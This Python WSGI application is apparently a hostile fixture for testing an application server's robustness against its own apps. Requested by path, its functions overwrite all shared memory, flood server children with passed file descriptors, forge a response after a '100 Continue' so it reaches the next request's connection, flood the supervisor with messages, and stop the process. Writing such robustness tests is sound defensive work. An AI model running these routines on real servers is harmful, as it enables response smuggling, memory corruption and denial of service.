"""Turns against the server that runs it, as the path says; `/` only names the process."""

import array
import contextlib
import ctypes
import os
import signal
import socket
import struct

HEAD, DATA, FILE, END, ABORT = 17, 18, 19, 22, 23
LOADED = 2


def sockets(kind):
    """Copies of those of that kind over which somebody listens to this process, to be closed."""
    copies = []
    for number in sorted(map(int, os.listdir("/proc/self/fd"))):
        try:
            copy = os.dup(number)
        except OSError:
            continue
        try:
            found = socket.socket(fileno=copy)
        except OSError:
            os.close(copy)
            continue
        if found.type == kind and not found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            copies.append(found)
        else:
            found.close()
    return copies


def text(data):
    return struct.pack("<I", len(data)) + data


def frame(kind, payload=b""):
    return struct.pack("<BxxxI", kind, len(payload)) + payload


def say(data, descriptors=()):
    """Says it to every child of httpd that is connected before the first one hears it.

    What an attack says with a second call may reach the connection of the request after it.
    """
    rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", descriptors))
    for child in sockets(socket.SOCK_STREAM):
        with child, contextlib.suppress(OSError):  # It may have heard enough.
            child.sendmsg([data], [rights] if descriptors else [])


def head(status=b"200 OK"):
    return frame(HEAD, struct.pack("<Q", 2**64 - 1) + text(status))


def announce_file(descriptor, length):
    say(head() + frame(FILE, struct.pack("<QQB", 0, length, 1)) + frame(END), [descriptor])


def overwrite(fill):
    """Writes over all memory that this process shares with others."""
    with open("/proc/self/maps") as maps:
        shared = [line.split()[0] for line in maps if line.split()[1] == "rw-s"]
    for area in shared:
        start, end = (int(address, 16) for address in area.split("-"))
        data = fill(end - start)
        ctypes.memmove(start, data, len(data))


def noise():
    overwrite(os.urandom)


def ones():
    overwrite(lambda length: b"\xff" * length)


def zeroes():
    overwrite(bytes)


def many_descriptors():
    """More with one message than its reader has room for, none of them announced."""
    null = os.open("/dev/null", os.O_RDONLY)
    say(head())
    for _ in range(3):
        say(frame(DATA, b"x"), [null] * 50)
    os.close(null)


def descriptor_after_descriptor():
    null = os.open("/dev/null", os.O_RDONLY)
    say(head())
    for _ in range(50):
        say(frame(DATA, b"x"), [null])
    os.close(null)


def beyond_the_end():
    with open(__file__, "rb") as file:
        announce_file(file.fileno(), 1 << 30)


def no_file():
    here, there = socket.socketpair()
    with here, there:
        announce_file(here.fileno(), 100)


def interim():
    """What follows an interim response would be taken for the response to the next request."""
    data = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nforged"
    say(head(b"100 Continue") + frame(DATA, data) + frame(END))


def interim_abort():
    say(frame(ABORT, struct.pack("<H", 100)))


def endless_talk():
    """Tells the supervisor of a hundred megabytes of applications."""
    for line in sockets(socket.SOCK_SEQPACKET):
        with line:
            line.setblocking(True)
            for number in range(12_500):
                line.send(bytes([LOADED]) + text(b"%d" % number) + text(b"/" * 8000))


def hang_up():
    """Closes the line to the supervisor, and minds nothing any more."""
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(int(number))) as found:
            if found.type == socket.SOCK_SEQPACKET:
                os.close(int(number))
    while True:
        os.kill(os.getpid(), signal.SIGSTOP)


def application(environ, start_response):
    name = environ["PATH_INFO"].strip("/")
    if name:
        globals()[name]()
    body = str(os.getpid()).encode()
    start_response("200 OK", [("Content-Length", str(len(body)))])
    return [body]
